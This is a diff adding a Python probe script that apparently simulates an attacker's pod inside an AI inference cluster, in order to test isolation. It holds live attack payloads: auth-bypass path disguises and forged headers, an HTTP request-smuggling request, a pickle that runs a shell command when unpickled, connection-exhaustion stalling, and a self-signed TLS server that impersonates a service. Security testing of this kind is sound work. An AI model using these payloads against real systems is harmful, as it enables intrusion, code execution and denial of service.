@@ -1,0 +1,254 @@
+"""What an attacker's pod tries; sent into it as it is, so the standard library alone, and cryptography for `pose`.
+
+`python3 - COMMAND WORD...`: `knock HOST PORT...` connects; `ask HOST PORT` asks a server's routes without the token;
+`progress HOST PORT` the learner's; `join HOST PORT...` its transfer groups; `stall HOST SECONDS PORT...` holds many
+connections; `pose SECONDS PORT...` answers as a server would; `leave HOST:PORT...` connects out of the job. Each prints
+a JSON object a line: what, outcome, said.
+"""
+
+import contextlib
+import datetime
+import json
+import socket
+import ssl
+import sys
+import tempfile
+import threading
+import time
+from typing import Any
+
+TIMEOUT_S = 5.0
+ROUTES = [
+    ("GET", "/v1/models"),
+    ("POST", "/v1/chat/completions"),
+    ("POST", "/v1/completions"),
+    ("POST", "/v1/embeddings"),
+    ("POST", "/v1/responses"),
+    ("POST", "/v1/load_lora_adapter"),
+    ("POST", "/v1/unload_lora_adapter"),
+    ("POST", "/init_weight_transfer_engine"),
+    ("POST", "/start_weight_update"),
+    ("POST", "/update_weights"),
+    ("POST", "/finish_weight_update"),
+    ("POST", "/update_weight_version"),
+    ("GET", "/get_world_size"),
+    ("POST", "/collective_rpc"),
+    ("POST", "/pause"),
+    ("POST", "/resume"),
+    ("POST", "/sleep"),
+    ("POST", "/wake_up"),
+    ("POST", "/reset_prefix_cache"),
+    ("POST", "/reset_mm_cache"),
+    ("POST", "/reset_encoder_cache"),
+    ("POST", "/abort_requests"),
+    ("POST", "/tokenize"),
+    ("POST", "/detokenize"),
+    ("POST", "/inference/v1/generate"),
+    ("POST", "/invocations"),
+    ("POST", "/scale_elastic_ep"),
+    ("GET", "/server_info"),
+    ("GET", "/stage2/identity"),
+    ("GET", "/stage2/folder"),
+    ("GET", "/load"),
+    ("GET", "/version"),
+    ("GET", "/metrics"),
+    ("GET", "/docs"),
+    ("GET", "/openapi.json"),
+    ("OPTIONS", "/update_weights"),
+    ("TRACE", "/v1/models"),
+]
+DISGUISES = [
+    "//v1/models",
+    "/health/../v1/models",
+    "/health/%2e%2e/v1/models",
+    "/health%2f..%2fv1/models",
+    "/health;/v1/models",
+    "/health%00/v1/models",
+    "http://localhost/v1/models",
+]
+HEADERS = [
+    "Authorization: Bearer x",
+    "Authorization: Bearer ",
+    "Authorization: Basic eDp4",
+    "Authorization: Bearer x\r\nAuthorization: Bearer y",
+    "X-Forwarded-For: 127.0.0.1\r\nX-Real-IP: 127.0.0.1",
+    "Cookie: token=x",
+    f"Authorization: Bearer {'x' * 60_000}",
+]
+SMUGGLED = (
+    b"POST /health HTTP/1.1\r\nHost: h\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n"
+    b"0\r\n\r\nGET /v1/models HTTP/1.1\r\nHost: h\r\nConnection: close\r\n\r\n"
+)
+MODELS_SAY = b'"object"'  # of every list of models
+PICKLE = b"cposix\nsystem\n(S'id'\ntR."
+LEAK_BYTES = 1024  # more than a handshake says before the other side has proved anything
+
+
+def tell(what: str, got: bool, said: str = "", *, known: bool = False) -> None:
+    outcome = "GOT" if got and not known else "open" if got else "held"
+    print(json.dumps({"what": what, "outcome": outcome, "said": said}), flush=True)
+
+
+def connection(host: str, port: int, *, tls: bool = True) -> socket.socket:
+    plain = socket.create_connection((host, port), timeout=TIMEOUT_S)
+    if not tls:
+        return plain
+    context = ssl.create_default_context()
+    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE  # an attacker believes everybody
+    return context.wrap_socket(plain)
+
+
+def exchange(host: str, port: int, sent: bytes, *, tls: bool = True) -> bytes:
+    """Send bytes; return what comes back until the other side ends or is silent."""
+    heard = b""
+    try:
+        with connection(host, port, tls=tls) as to:
+            to.sendall(sent)
+            while part := to.recv(65536):
+                heard += part
+    except OSError as error:
+        return heard or type(error).__name__.encode()
+    return heard
+
+
+def request(method: str, path: str, header: str = "") -> bytes:
+    lines = [f"{method} {path} HTTP/1.1", "Host: h", "Connection: close", "Content-Type: application/json"]
+    return "\r\n".join([*lines, *([header] if header else []), "Content-Length: 2", "", "{}"]).encode()
+
+
+def status(answer: bytes) -> str:
+    return answer.split(b"\r\n", 1)[0].decode(errors="replace")[:60]
+
+
+def knock(host: str, *ports: str) -> None:
+    for port in ports:
+        try:
+            socket.create_connection((host, int(port)), timeout=2).close()
+            tell(f"connect to port {port} of {host}", True)
+        except OSError as error:
+            tell(f"connect to port {port} of {host}", False, type(error).__name__)
+
+
+def ask(host: str, port: str) -> None:
+    where = f"of the server at port {port}"
+    answer = exchange(host, int(port), request("GET", "/health"))
+    tell(f"GET /health {where}", b"HTTP/1.1 200" in answer, status(answer), known=True)
+    for method, path in ROUTES:
+        said = status(exchange(host, int(port), request(method, path)))
+        tell(f"{method} {path} {where}, no token", " 2" in said[:13], said)
+    for path in DISGUISES:
+        answer = exchange(host, int(port), request("GET", path))
+        tell(f"GET {path} {where}, no token", MODELS_SAY in answer, status(answer))
+    for header in HEADERS:
+        answer = exchange(host, int(port), request("GET", "/v1/models", header))
+        tell(f"GET /v1/models {where} with {header[:40]!r}", MODELS_SAY in answer, status(answer))
+    answer = exchange(host, int(port), SMUGGLED)
+    tell(f"a second request hidden in the first {where}", MODELS_SAY in answer, status(answer))
+    answer = exchange(host, int(port), request("GET", "/health"), tls=False)
+    tell(f"an answer in clear text {where}", b"HTTP/1.1 200" in answer, status(answer))
+
+
+def progress(host: str, port: str) -> None:
+    for header in ("", *HEADERS):
+        said = status(exchange(host, int(port), request("GET", "/progress", header)))
+        tell(f"GET /progress of the learner with {header[:40]!r}", " 2" in said[:13], said)
+
+
+def join(host: str, *ports: str) -> None:
+    """Join the transfer groups: say nothing, nonsense, and what would run a command if it were unpickled."""
+    for port in ports:
+        for name, sent in (("nothing", b""), ("nonsense", b"\xff" * 4096), ("a pickle", PICKLE)):
+            answer = exchange(host, int(port), sent, tls=False)
+            tell(
+                f"weights at port {port} of the learner, saying {name}",
+                len(answer) > LEAK_BYTES,
+                f"{len(answer)} bytes",
+            )
+
+
+def stall(host: str, seconds: str, *ports: str) -> None:
+    """Hold connections, and say how many when all are there and when the time is over."""
+    held = []
+    for port in ports:
+        for _ in range(64):
+            with contextlib.suppress(OSError):
+                held.append(socket.create_connection((host, int(port)), timeout=2))
+    print(json.dumps({"held": len(held)}), flush=True)
+    time.sleep(float(seconds))
+
+
+def pose(seconds: str, *ports: str) -> None:
+    """Listen as a server would, with a certificate of our own; tell who believed it, and what they then said."""
+    context = ssl.create_default_context(ssl.Purpose.CLIENT_AUTH)
+    context.load_cert_chain(certificate())
+    heard: list[tuple[str, bytes]] = []
+    for port in ports:
+        threading.Thread(target=answer_at, args=(int(port), context, heard), daemon=True).start()
+    time.sleep(float(seconds))
+    believed = [said for outcome, said in heard if outcome == "believed"]
+    what = f"to be taken for a server, in whose Service this pod is ({len(heard)} connections came)"
+    tell(what, bool(believed), believed[0][:200].decode(errors="replace") if believed else "")
+    print(json.dumps({"connections": len(heard)}), flush=True)
+
+
+def leave(*addresses: str) -> None:
+    """Connect out of the job: to addresses of the cluster and of the internet, written as HOST:PORT."""
+    for address in addresses:
+        host, _, port = address.rpartition(":")
+        try:
+            socket.create_connection((host, int(port)), timeout=3).close()
+            tell(f"to connect out, to {address}", True)
+        except OSError as error:
+            tell(f"to connect out, to {address}", False, type(error).__name__)
+
+
+def answer_at(port: int, context: ssl.SSLContext, heard: list[tuple[str, bytes]]) -> None:
+    with socket.create_server(("", port)) as listening:
+        while True:
+            plain, _ = listening.accept()
+            plain.settimeout(TIMEOUT_S)
+            try:
+                with context.wrap_socket(plain, server_side=True) as secure:
+                    heard.append(("believed", secure.recv(4096)))
+            except OSError as error:
+                heard.append(("turned away", type(error).__name__.encode()))
+
+
+def certificate() -> str:
+    """Write a certificate of our own for every name; return the file."""
+    from cryptography import x509
+    from cryptography.hazmat.primitives import hashes, serialization
+    from cryptography.hazmat.primitives.asymmetric import ec
+
+    key = ec.generate_private_key(ec.SECP256R1())
+    name = x509.Name([x509.NameAttribute(x509.NameOID.COMMON_NAME, "stage2")])
+    now = datetime.datetime.now(datetime.UTC)
+    made = (
+        x509.CertificateBuilder()
+        .subject_name(name)
+        .issuer_name(name)
+        .public_key(key.public_key())
+        .serial_number(x509.random_serial_number())
+        .not_valid_before(now - datetime.timedelta(days=1))
+        .not_valid_after(now + datetime.timedelta(days=1))
+        .sign(key, hashes.SHA256())
+    )
+    with tempfile.NamedTemporaryFile("wb", suffix=".pem", delete=False) as file:
+        file.write(made.public_bytes(serialization.Encoding.PEM))
+        private = serialization.PrivateFormat.PKCS8, serialization.NoEncryption()
+        file.write(key.private_bytes(serialization.Encoding.PEM, *private))
+    return file.name
+
+
+COMMANDS: dict[str, Any] = {
+    "knock": knock,
+    "ask": ask,
+    "progress": progress,
+    "join": join,
+    "stall": stall,
+    "pose": pose,
+    "leave": leave,
+}
+
+if __name__ == "__main__":
+    COMMANDS[sys.argv[1]](*sys.argv[2:])
